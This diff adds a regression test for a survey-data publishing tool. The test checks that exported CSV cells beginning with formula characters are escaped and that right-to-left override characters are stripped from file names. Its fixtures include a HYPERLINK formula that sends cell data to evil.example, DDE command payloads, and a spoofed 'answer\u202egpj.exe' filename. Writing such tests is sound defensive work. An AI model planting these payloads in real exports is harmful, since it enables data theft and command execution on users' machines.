@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import json
 import sqlite3
 
@@ -104,3 +105,51 @@ def test_publish_command(sqlite_store, run_cli, tmp_path):
     summary = json.loads(run_cli("publish", "--out", str(tmp_path / "o"), "--json", db=db).stdout)
     assert summary["tables"] == TABLES and summary["synthetic"] is False
     assert "SYNTHETIC" not in (tmp_path / "o" / "README.md").read_text()
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Hikvision cameras")',
+    "+cmd|' /C calc'!A0 Hikvision",
+    "-2+3+cmd|' /C calc'!A0 Dahua",
+    "@SUM(1+1)*cmd|' /C calc'!A0 Axis",
+    "\t=1+1 Hanwha",
+    "\r=1+1 Bosch",
+)
+
+
+def test_formula_quotes_and_bidi_file_names_are_neutralised_in_open_data(sqlite_store, tmp_path):
+    """Issue 16: quotes that begin with a formula went raw into evidence.csv; a file name's right-to-left
+    override went into the document column."""
+    from sqlalchemy import select
+
+    from camcensus.store.models import Document, Evidence
+
+    with sqlite_store.session() as session:
+        build_survey(session)
+        doc = session.scalars(select(Document).where(Document.filename.like("%.pdf"))).first()
+        doc.filename = "answer\u202egpj.exe"
+        for n, quote in enumerate(FORMULAS):
+            session.add(
+                Evidence(
+                    document_id=doc.id,
+                    body_id=doc.body_id,
+                    kind="manufacturer",
+                    value=f"V{n}",
+                    quote=quote,
+                    location="page 2",
+                    char_start=n,
+                )
+            )
+    out = tmp_path / "open"
+    publish(sqlite_store, out)
+    with (out / "evidence.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    quotes = {row["value"]: row["quote"] for row in rows}
+    assert quotes["V0"] == "'" + FORMULAS[0]
+    assert all("\u202e" not in c for c in cells) and "answergpj.exe" in cells
+    # Parquet and SQLite are not opened by spreadsheets as formulas: the quote stays as read
+    assert FORMULAS[0] in [
+        r["quote"] for r in pq.read_table(out / "parquet" / "evidence.parquet").to_pylist()
+    ]
